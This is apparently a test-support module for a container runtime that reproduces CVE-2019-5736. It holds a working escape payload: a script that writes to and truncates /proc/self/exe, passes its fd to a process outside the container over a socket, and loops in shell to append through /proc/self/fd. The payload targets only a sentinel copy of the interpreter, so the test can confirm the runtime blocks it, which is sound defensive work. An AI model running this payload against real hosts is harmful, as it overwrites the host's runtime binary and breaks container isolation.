"""CVE-2019-5736 through ``#!/proc/self/exe``: a sentinel runtime interpreter and the attack.

The runtime under attack is a *copy* of this interpreter (``sentinel_interpreter``):
the caller, the CLI and so the fork server run from it, so an attack that gets
through rewrites the copy, never the host's real interpreter.

The attack (``ATTACK``), the workload's ``args[0]``: a script whose ``#!`` line
is ``/proc/self/exe``, so the kernel runs the exec'ing process's own executable,
the runtime's interpreter, on it inside the container.  That Python, as root:

1. opens ``/proc/self/exe`` for writing and writes; truncates it;
2. keeps an ``O_PATH`` fd of it and execs a shell, which reopens
   ``/proc/self/fd/N`` for appending while the kernel says ETXTBSY (something
   on the host still executes the file), until it gets in or gets another error;
   or (``HANDOFF``) hands that fd over a unix socket to a process that outlives
   the container (:func:`receive_exe`, which then tries the same).

Reports go to ``/results`` (a host directory bound in): ``python.json`` from
step 1, ``reopen`` from step 2 (``WROTE`` or the shell's error).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import time
from pathlib import Path
from typing import Any

from tests.support.configs import bind

#: Seconds a step of the attack may take: generous, for the QEMU guest (~25x slower).
PATIENCE = 600

ATTACK = """#!/proc/self/exe
import errno, json, os, sys

report = {"exe": os.readlink("/proc/self/exe")}


def attempt(name, action):
    try:
        action()
        report[name] = "WROTE"
    except OSError as exc:
        report[name] = errno.errorcode.get(exc.errno, str(exc.errno))


def write_directly():
    fd = os.open("/proc/self/exe", os.O_WRONLY)
    try:
        os.write(fd, b"PWNED")
    finally:
        os.close(fd)


attempt("open_write", write_directly)
attempt("truncate", lambda: os.truncate("/proc/self/exe", 0))
with open("/results/python.json", "w") as f:
    json.dump(report, f)
fd = os.open("/proc/self/exe", os.O_PATH)
if os.environ.get("HANDOFF"):  # to a process that outlives the container
    import socket
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(os.environ["HANDOFF"])
        socket.send_fds(sock, [b"exe"], [fd])
    sys.exit(0)
os.set_inheritable(fd, True)
os.execv("/bin/sh", ["sh", "-c", os.environ["REOPEN"], "sh", str(fd)])
"""

#: The shell of step 2: keep trying while the file is busy (at most ~20 s).
REOPEN = """
try=0
while :; do
  err=$( { printf PWNED >> /proc/self/fd/$1; } 2>&1 ) && { echo WROTE > /results/reopen; exit 0; }
  case "$err" in *busy*) ;; *) echo "$err" > /results/reopen; exit 0;; esac
  try=$((try + 1)); [ $try -lt 200 ] || { echo "$err" > /results/reopen; exit 0; }
  sleep 0.1
done
"""


def sentinel_interpreter(directory: Path) -> Path:
    """A copy of this interpreter that finds this one's standard library and packages.

    ``bin/<name>`` is the copy; ``lib`` links to the real prefix's ``lib``, where
    CPython's getpath looks for its landmark relative to ``argv[0]``.
    """
    real = Path(os.path.realpath(sys.executable))
    (directory / "bin").mkdir(parents=True)
    copy = directory / "bin" / real.name
    shutil.copy2(real, copy)
    (directory / "lib").symlink_to(Path(sys.base_prefix) / "lib")
    return copy


def attack_config(config: dict[str, Any], rootfs: Path, results: Path) -> dict[str, Any]:
    """``config`` running ``/attack``, with what a Python of the host needs bound read-only."""
    (rootfs / "attack").write_text(ATTACK)
    (rootfs / "attack").chmod(0o755)
    config["process"]["args"] = ["/attack"]
    config["process"]["env"] = [
        "PATH=/usr/bin:/bin",
        f"PYTHONHOME={sys.base_prefix}",
        "PYTHONDONTWRITEBYTECODE=1",
        f"REOPEN={REOPEN}",
    ]
    prefix = os.path.realpath(sys.base_prefix)
    for host in dict.fromkeys(["/usr", "/lib", "/lib64", prefix]):
        if os.path.exists(host):
            config["mounts"].append(bind(host, host, "ro"))
    config["mounts"].append(bind("/results", results))
    return config


def listen(results: Path) -> socket.socket:
    """The socket :data:`ATTACK` hands its fd to with ``HANDOFF=/results/handoff``."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(results / "handoff"))
    server.listen(1)
    server.settimeout(PATIENCE)
    return server


def reopen_for_writing(fd: int) -> str:
    """What the container's fd of its exe lets a process do once nothing executes it."""
    path = f"/proc/self/fd/{fd}"
    try:
        reopened = os.open(path, os.O_WRONLY | os.O_APPEND)
        try:
            os.write(reopened, b"PWNED")
        finally:
            os.close(reopened)
    except OSError as exc:
        return exc.strerror or str(exc)
    return "WROTE"


def wait_report(results: Path, timeout: float = PATIENCE) -> dict[str, Any]:
    """Both reports of the attack, once the shell has written its own."""
    deadline = time.monotonic() + timeout
    while not (results / "reopen").exists():
        assert time.monotonic() < deadline, "the attack did not report"
        time.sleep(0.05)
    time.sleep(0.05)  # the shell's echo: written, maybe not yet closed
    report: dict[str, Any] = json.loads((results / "python.json").read_text())
    report["reopen"] = (results / "reopen").read_text().strip()
    return report
